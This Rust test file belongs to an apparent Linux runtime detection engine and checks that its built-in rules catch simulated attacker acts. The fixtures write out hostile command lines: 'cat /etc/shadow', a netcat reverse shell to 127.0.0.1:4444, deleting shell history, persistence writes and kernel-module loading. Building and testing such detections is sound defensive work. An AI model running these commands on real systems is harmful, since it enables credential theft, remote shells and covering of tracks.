use std::collections::BTreeSet;

use super::builtin;
use crate::compile::{Overrides, RuleSet};
use crate::file::RuleFile;
use crate::testing;

fn files() -> Vec<RuleFile> {
    let parse = |(path, text): &(&str, &str)| match RuleFile::parse(path, text) {
        Ok(file) => file,
        Err(errors) => panic!("{}", errors.iter().map(ToString::to_string).collect::<Vec<_>>().join("\n")),
    };
    builtin().iter().map(parse).collect()
}

#[test]
fn the_tests_inside_every_built_in_rule_pass() {
    let mut failures = Vec::new();
    for file in files() {
        let outcomes = testing::run(&file).unwrap_or_else(|e| panic!("{}: {e:?}", file.name()));
        for outcome in outcomes {
            if let Some(failure) = outcome.failure {
                failures.push(format!("{}:{}: {}: {failure}", file.name(), outcome.line, outcome.test));
            }
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn all_built_in_rules_compile_together_without_a_warning() {
    let set = RuleSet::compile(&files(), &Overrides::default()).unwrap();
    assert!(set.rules().len() >= 24, "{}", set.rules().len());
    assert_eq!(set.warnings, Vec::new());
    let names: BTreeSet<_> = set.rules().iter().map(|r| &r.name).collect();
    assert_eq!(names.len(), set.rules().len(), "names are unique");
}

#[test]
fn every_built_in_rule_names_a_technique_a_tactic_and_what_it_can_match() {
    let set = RuleSet::compile(&files(), &Overrides::default()).unwrap();
    for rule in set.rules() {
        assert!(rule.tags.iter().any(|t| vedetta_model::finding::is_technique(t)), "{}", rule.name);
        assert!(rule.tags.iter().any(|t| t.starts_with("TA00")), "{}", rule.name);
        assert!(!rule.kinds.is_empty() && rule.enabled, "{}", rule.name);
        assert!(rule.output.contains("%proc.cmdline"), "{}", rule.name);
    }
}

#[test]
fn every_built_in_file_is_one_rule_with_both_kinds_of_test() {
    for file in files() {
        let rules: Vec<_> = file.rules().collect();
        assert_eq!(rules.len(), 1, "{}", file.name());
        for expected in [true, false] {
            assert!(rules[0].tests.iter().any(|t| t.expect_match == expected), "{}", file.name());
        }
    }
}

mod demo {
    //! What an attacker does, as the agent reports it: each act has to be found by its rule.

    use vedetta_model::event::{
        Bpf, Chmod, Connect, Exec, Link, ModuleLoad, Open, Ptrace, SocketAddress, Unlink, Unshare,
    };
    use vedetta_model::{Event, Payload, Process, ProcessKey, Timestamp};

    use super::*;
    use crate::eval::Scratch;
    use crate::fields::EventView;

    const WRITE: u32 = 0o1101;

    fn process(parent: Option<u32>, name: &str, exe: &str, args: &[&str]) -> Process {
        let start = Timestamp::from_millis(1_760_000_000_000);
        Process {
            key: ProcessKey { pid: 4000, start },
            parent,
            ppid: 1,
            exec_time: start,
            name: name.to_owned(),
            exe: exe.to_owned(),
            args: args.iter().map(|a| (*a).to_owned()).collect(),
            cwd: "/root".to_owned(),
            uid: 0,
            euid: 0,
            gid: 0,
            egid: 0,
            user: "root".to_owned(),
            loginuid: None,
            tty: 0,
            sid: 1,
            session_start: start,
            pgid: 4000,
            container_id: String::new(),
            exe_from_memfd: false,
            exe_writable: false,
        }
    }

    /// The rules that an act of the last process in the table is found by.
    fn found(processes: &[Process], result: i64, payload: impl Into<Payload>) -> Vec<String> {
        let set = RuleSet::compile(&files(), &Overrides::default()).unwrap();
        let event = Event {
            seq: 1,
            time: Timestamp::from_millis(1_760_000_001_000),
            process: Some(u32::try_from(processes.len() - 1).unwrap()),
            tid: 4000,
            result,
            payload: payload.into(),
        };
        let mut matches = Vec::new();
        set.evaluate(&EventView { processes, event: &event }, &mut Scratch::default(), &mut matches);
        matches.iter().map(|m| set.rules()[m.rule].name.clone()).collect()
    }

    fn open(path: &str, flags: u32) -> Open {
        Open { path: path.to_owned(), flags, mode: 0o644 }
    }

    fn tool(name: &str, args: &[&str]) -> Vec<Process> {
        vec![
            process(None, "bash", "/usr/bin/bash", &["-bash"]),
            process(Some(0), name, &format!("/usr/bin/{name}"), args),
        ]
    }

    #[test]
    fn reading_the_shadow_file_is_found() {
        let cat = tool("cat", &["cat", "/etc/shadow"]);
        assert_eq!(found(&cat, 3, open("/etc/shadow", 0)), ["Password file read by untrusted program"]);
        assert!(found(&tool("sshd", &["sshd"]), 3, open("/etc/shadow", 0)).is_empty());
    }

    #[test]
    fn a_shell_below_a_web_server_is_found() {
        let table = [
            process(None, "nginx", "/tmp/demo/nginx", &["nginx"]),
            process(Some(0), "sh", "/usr/bin/dash", &["sh", "-c", "id"]),
        ];
        assert_eq!(found(&table, 0, Exec::default()), ["Shell started by web server"]);
    }

    #[test]
    fn a_write_below_etc_is_found() {
        assert_eq!(found(&tool("bash", &["bash"]), 3, open("/etc/demo.conf", WRITE)), ["Write below /etc"]);
        assert_eq!(found(&tool("bash", &["bash"]), 3, open("/etc/cron.d/demo", WRITE)), ["Cron job written"]);
        let unit = open("/etc/systemd/system/demo.service", WRITE);
        assert_eq!(found(&tool("bash", &["bash"]), 3, unit), ["Systemd unit written"]);
        assert_eq!(
            found(&tool("bash", &["bash"]), 3, open("/etc/ld.so.preload", WRITE)),
            ["Library preloading configured"]
        );
        assert!(found(&tool("dpkg", &["dpkg"]), 3, open("/etc/demo.conf", WRITE)).is_empty());
    }

    #[test]
    fn deleting_the_shell_history_is_found() {
        let rm = tool("rm", &["rm", "/root/.bash_history"]);
        let unlink = Unlink { path: "/root/.bash_history".to_owned(), directory: false };
        assert_eq!(found(&rm, 0, unlink), ["Shell history deleted"]);
        let emptied = open("/root/.bash_history", WRITE);
        assert_eq!(found(&tool("bash", &["bash"]), 3, emptied), ["Shell history deleted"]);
        let link =
            Link { target: "/dev/null".to_owned(), path: "/root/.bash_history".to_owned(), symbolic: true };
        assert_eq!(found(&tool("ln", &["ln"]), 0, link), ["Shell history deleted"]);
    }

    #[test]
    fn a_reverse_shell_is_found() {
        let connect = || {
            let remote = SocketAddress::Ip { address: [127, 0, 0, 1].into(), port: 4444 };
            Connect { fd: 3, remote, local: None, protocol: 6 }
        };
        assert_eq!(found(&tool("bash", &["bash", "-i"]), -111, connect()), ["Reverse shell connection"]);
        let nc = tool("nc", &["nc", "-e", "/bin/sh", "127.0.0.1", "4444"]);
        assert_eq!(found(&nc, 0, connect()), ["Reverse shell connection"]);
        assert!(found(&tool("curl", &["curl", "http://127.0.0.1:4444"]), 0, connect()).is_empty());
    }

    #[test]
    fn a_dropped_program_is_found() {
        for exe in ["/tmp/demo", "/var/tmp/demo", "/dev/shm/demo"] {
            let table = [
                process(None, "bash", "/usr/bin/bash", &["-bash"]),
                process(Some(0), "demo", exe, &["./demo"]),
            ];
            assert_eq!(found(&table, 0, Exec::default()), ["Program run from a temporary folder"]);
        }
    }

    #[test]
    fn tracing_another_process_is_found() {
        let injector = tool("injector", &["injector"]);
        assert_eq!(
            found(&injector, 0, Ptrace { request: 16, target: 42 }),
            ["Process attached to with ptrace"]
        );
        assert!(found(&injector, 0, Ptrace { request: 0, target: 0 }).is_empty());
    }

    #[test]
    fn a_package_manager_in_a_namespace_is_found() {
        let rule = "Package manager run in a container";
        let exec = Exec { filename: "/usr/bin/apt-get".to_owned(), previous_name: "unshare".to_owned() };
        assert_eq!(found(&tool("apt-get", &["apt-get", "update"]), 0, exec), [rule]);
        let mut contained = tool("apt-get", &["apt-get", "update"]);
        contained[1].container_id = "3ad7b26ded6d8e7b23da7d48fe88".to_owned();
        assert_eq!(found(&contained, 0, Exec::default()), [rule]);
        assert!(found(&tool("apt-get", &["apt-get", "update"]), 0, Exec::default()).is_empty());
    }

    #[test]
    fn what_touches_the_kernel_is_found() {
        let module = ModuleLoad { path: "/tmp/rk.ko".to_owned(), args: String::new() };
        assert_eq!(found(&tool("insmod", &["insmod"]), 0, module), ["Kernel module loaded by hand"]);
        let load = Bpf { command: 5 };
        assert_eq!(found(&tool("loader", &["loader"]), 4, load), ["BPF program loaded by unusual program"]);
        let unshare = Unshare { flags: 0x1002_0000 };
        assert_eq!(
            found(&tool("unshare", &["unshare"]), 0, unshare),
            ["Namespace changed by unusual program"]
        );
        let marked = Chmod { path: "/tmp/sh".to_owned(), mode: 0o4755 };
        assert_eq!(found(&tool("chmod", &["chmod", "u+s", "/tmp/sh"]), 0, marked), ["Setuid bit set"]);
    }

    #[test]
    fn a_program_in_memory_is_found() {
        let mut table = tool("3", &["program"]);
        table[1].exe = "/memfd:program (deleted)".to_owned();
        assert_eq!(found(&table, 0, Exec::default()), ["Program run from memory"]);
    }
}
